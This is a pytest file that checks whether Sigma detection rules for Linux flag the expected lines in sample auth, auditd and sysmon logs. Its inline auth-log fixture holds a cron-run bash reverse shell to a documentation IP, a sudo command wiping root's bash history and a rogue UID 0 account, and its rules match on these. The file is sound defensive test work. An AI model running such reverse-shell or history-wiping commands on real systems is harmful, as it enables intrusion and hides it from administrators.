"""Rules of Sigma for Linux mean the lines that they should, and no others."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.sources.lines.golden import CASES
from tests.sources.lines.rule_hits import lines_hit

AUTH = """\
Mar 10 08:00:01 web01 sshd[1201]: Accepted publickey for deploy from 192.0.2.10 port 50122 ssh2
Mar 10 08:00:02 web01 sshd[1202]: error: Corrupted MAC on input. [preauth]
Mar 10 08:00:03 web01 useradd[1400]: new user: name=svc, UID=0, GID=0, home=/root, shell=/bin/bash
Mar 10 08:00:04 web01 sudo:   deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/rm -f /root/.bash_history
Mar 10 08:00:05 web01 CRON[1600]: (root) CMD (bash -i >& /dev/tcp/203.0.113.5/443 0>&1)
Mar 10 08:00:06 web01 crontab[1601]: (deploy) REPLACE (deploy)
Mar 10 08:00:07 web01 systemd[1]: Corrupted MAC on input is not what systemd writes
Mar 10 08:00:08 web01 vsftpd[1700]: refuse(): connection refused
Mar 10 08:00:09 web01 clamd[1701]: /srv/up/a.php: Php.Webshell.Test-1 FOUND
Mar 10 08:00:10 web01 kernel: device eth0 entered promiscuous mode
"""
KEYWORDS = {
    "whatever log": ("product: linux", ["'new user'"], [3]),
    "two words": ("product: linux", ["'_history'"], [4]),
    "wildcard": ("product: linux", ["'rm *sh_history'"], [4]),
    "reverse shell": ("product: linux", ["'bash -i >& /dev/tcp/'"], [5]),
    "sshd alone": ("product: linux, service: sshd", ["'Corrupted MAC on input'"], [2]),
    "cron": ("product: linux, service: cron", ["REPLACE"], [6]),
    "vsftpd": ("product: linux, service: vsftpd", ["'connection refused'"], [8]),
    "clamav": ("product: linux, service: clamav", ["'Webshell*FOUND'"], [9]),
    "syslog": ("product: linux, service: syslog", ["'entered promiscuous mode'"], [10]),
    "auth is not cron": ("product: linux, service: auth", ["'/dev/tcp/'"], []),
    "sudo": ("product: linux, service: sudo", ["deploy"], [4]),
    "no Windows": ("product: windows", ["deploy"], []),
}
AUDIT = CASES / "auditd" / "audit.log"
SYSMON = CASES / "linux_sysmon" / "syslog.log"
FIELDS = {
    "execve": ("service: auditd", "{type: EXECVE, a0: sh, a2|contains: '/etc/passwd'}", [2], []),
    "joined parts": ("service: auditd", "{type: EXECVE, a1: abcdefgh}", [25], []),
    "system call": ("service: auditd", "{type: SYSCALL, SYSCALL: unlinkat, exe|endswith: /rm}", [19], []),
    "path": ("service: auditd", "{type: PATH, name: /var/log/auth.log, nametype: DELETE}", [19], []),
    "one key of two": ("service: auditd", "{key: network_connect_4}", [3], []),
    "type": ("service: auditd", "{type: ADD_USER}", [15], []),
    "unit": ("service: auditd", "{type: SERVICE_STOP, unit: [firewalld, ufw]}", [17], []),
    "effective user": ("service: auditd", "{type: SYSCALL, SYSCALL: connect, euid: 33}", [3], []),
    "process": ("category: process_creation", "{CommandLine|contains: 'cat /etc/passwd'}", [2], [1]),
    "image and user": ("category: process_creation", "{Image|endswith: /dash, User: www-data}", [], [1]),
    "parent": ("category: process_creation", "{ParentImage|endswith: /apache2}", [], [1]),
    "connection": ("category: network_connection", "{Initiated: 'true', DestinationPort: 4444}", [3], [2]),
    "address": ("category: network_connection", "{DestinationIp: 203.0.113.5}", [3], [2]),
    "file": ("category: file_event", "{TargetFilename|startswith: /etc/cron.d/}", [], [3]),
    "deleted file": ("category: file_delete", "{TargetFilename: /var/log/auth.log}", [19], [4]),
    "sysmon": ("service: sysmon", "{Device: /dev/sda}", [], [6]),
}


@pytest.mark.parametrize("name", KEYWORDS)
def test_keywords(name: str, tmp_path: Path) -> None:
    source, words, lines = KEYWORDS[name]
    rule = f"title: t\nlogsource: {{{source}}}\ndetection:\n  a: [{', '.join(words)}]\n  condition: a\n"
    assert lines_hit(rule, tmp_path / "auth.log", AUTH) == lines


def test_all_of_several_words(tmp_path: Path) -> None:
    rule = (
        "title: t\nlogsource: {product: linux}\ndetection:\n  a: ['new user']\n  b: ['UID=0,', 'GID=10,']\n"
        "  condition: all of them\n"
    )
    assert lines_hit(rule, tmp_path / "auth.log", AUTH) == [3]


PROCESSES = {
    "sudo's command": ("{Image|endswith: /rm, CommandLine|contains: /root/.bash_history, User: root}", [4]),
    "cron's command": ("{CommandLine|contains: /dev/tcp/, User: root}", [5]),
    "who asked sudo": ("{ParentUser: deploy}", [4]),
}


@pytest.mark.parametrize("name", PROCESSES)
def test_processes_that_sudo_and_cron_tell_of(name: str, tmp_path: Path) -> None:
    selection, lines = PROCESSES[name]
    source = "product: linux, category: process_creation"
    rule = f"title: t\nlogsource: {{{source}}}\ndetection:\n  a: {selection}\n  condition: a\n"
    assert lines_hit(rule, tmp_path / "auth.log", AUTH) == lines


@pytest.mark.parametrize("name", FIELDS)
def test_fields(name: str) -> None:
    source, selection, audit, sysmon = FIELDS[name]
    rule = f"title: t\nlogsource: {{product: linux, {source}}}\ndetection:\n  a: {selection}\n  condition: a\n"
    assert lines_hit(rule, AUDIT) == audit
    assert lines_hit(rule, SYSMON) == sysmon


def test_packets_are_of_firewalls() -> None:
    log = CASES / "linux" / "syslog.log"
    selection = "{dst_port: 3389, action: blocked}"
    rule = f"title: t\nlogsource: {{category: firewall}}\ndetection:\n  a: {selection}\n  condition: a\n"
    assert lines_hit(rule, log) == [5]
